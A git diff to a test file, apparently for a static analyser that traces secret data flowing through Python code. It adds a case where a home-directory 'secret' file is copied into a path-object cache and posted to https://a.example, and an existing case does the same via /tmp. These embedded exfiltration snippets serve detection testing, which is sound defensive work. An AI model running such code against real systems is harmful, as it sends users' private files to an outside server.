@@ -58,3 +58,9 @@ it('a file of another name has no mark', async () => {
     'import shutil, requests\nshutil.copy("/secret", "/tmp/c")\nrequests.post("https://a.example", data=open("/tmp/d"))'
   expect(flows(await factsOf({ 'a.py': text }, [stores]))).toEqual([])
 })
+
+it('what a path object holds is there when it is read again', async () => {
+  const code =
+    'from pathlib import Path\nimport requests\nC = Path.home() / "cache.bin"\nC.write_bytes((Path.home() / "secret").read_bytes())\nrequests.post("https://a.example", data=C.read_bytes())'
+  expect(flows(await factsOf({ 'a.py': code }, [stores]))).toHaveLength(1)
+})
